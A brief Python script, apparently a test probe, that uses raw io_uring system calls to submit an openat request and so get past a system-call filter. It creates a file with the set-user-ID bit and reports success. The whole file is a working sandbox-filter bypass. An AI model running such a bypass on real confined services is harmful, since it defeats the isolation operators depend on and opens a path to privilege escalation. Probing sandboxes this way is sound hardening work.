"""Does by io_uring(7), past any filter of system calls, what the service may not: `by_io_uring.py PROGRAM`.

Makes the file PROGRAM with the set-user-ID bit; exit status 0 if it could.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import stat
import struct
import sys

_SETUP, _ENTER = 425, 426
_OPENAT, _AT_FDCWD, _GETEVENTS = 18, -100, 1
_SUBMISSIONS, _ENTRIES = 0, 0x10000000  # offsets for mmap(2)
_PARAMETERS = 120  # bytes of struct io_uring_params; at 40 it has the offsets of the ring


def main(path: bytes) -> None:
    """Submit one request to open the file, and wait for its completion."""
    system_call = ctypes.CDLL(None, use_errno=True).syscall
    parameters = ctypes.create_string_buffer(_PARAMETERS)
    ring = system_call(_SETUP, 1, parameters)
    if ring < 0:
        sys.exit(f"io_uring_setup: {os.strerror(ctypes.get_errno())}")
    _head, tail, *_, array = struct.unpack_from("7I", parameters, 40)
    submissions = mmap.mmap(ring, mmap.PAGESIZE, offset=_SUBMISSIONS)
    entries = mmap.mmap(ring, mmap.PAGESIZE, offset=_ENTRIES)
    name = ctypes.create_string_buffer(path)
    flags, mode = os.O_CREAT | os.O_WRONLY, stat.S_ISUID | 0o755
    struct.pack_into("BBHiQQII", entries, 0, _OPENAT, 0, 0, _AT_FDCWD, 0, ctypes.addressof(name), mode, flags)
    struct.pack_into("I", submissions, array, 0)
    struct.pack_into("I", submissions, tail, 1)
    system_call(_ENTER, ring, 1, 1, _GETEVENTS, None, 0)
    assert os.stat(path).st_mode & stat.S_ISUID


main(os.fsencode(sys.argv[1]))
